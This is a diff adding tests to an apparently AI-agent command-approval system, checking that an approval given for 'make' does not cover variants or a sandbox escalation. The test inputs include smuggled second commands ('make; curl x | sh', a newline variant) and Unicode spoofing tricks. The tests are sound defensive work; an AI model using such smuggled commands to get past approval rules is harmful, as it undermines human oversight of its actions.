@@ -333,6 +333,38 @@ describe('a rule', () => {
   });
 });
 
+describe('a rule about a command', () => {
+  it.each([
+    ['another one after it', 'make; curl x | sh'],
+    ['another one on the next line', 'make\ncurl x | sh'],
+    ['a character that is not seen', 'make\u200b'],
+    ['a mark of direction', 'make\u202e'],
+    ['a blank that is no space', 'make\u00a0'],
+    ['a letter of another alphabet', 'm\u0430ke'],
+    ['a control character', 'make\u0008'],
+    ['one more space', 'make '],
+    ['other letters', 'MAKE'],
+  ])('does not cover the same with %s', (_what, command) => {
+    const thread = asking();
+    answer(thread, 'accept', 'thread');
+    runs(thread);
+    thread.answer(exec(command));
+    expect(thread.actions('execCommand')).toEqual([]);
+    expect(thread.state.requests).toMatchObject([{ command }]);
+  });
+
+  it('given for the sandbox does not cover a run outside of it, by whatever answer it was made', () => {
+    for (const scope of ['turn', 'thread'] as const) {
+      const thread = asking();
+      answer(thread, 'accept', scope);
+      runs(thread);
+      thread.answer(exec('make', { sandbox_permissions: 'require_escalated' }));
+      expect(thread.actions('execCommand')).toEqual([]);
+      expect(thread.state.requests).toMatchObject([{ escalated: true, sandbox: 'danger-full-access' }]);
+    }
+  });
+});
+
 describe('a rule of the repository', () => {
   const lookingUp = () => asking({ repositoryRules: true });
   const given = (match: RuleMatch, decision: ApprovalRule['decision'] = 'accept'): ApprovalRule => ({
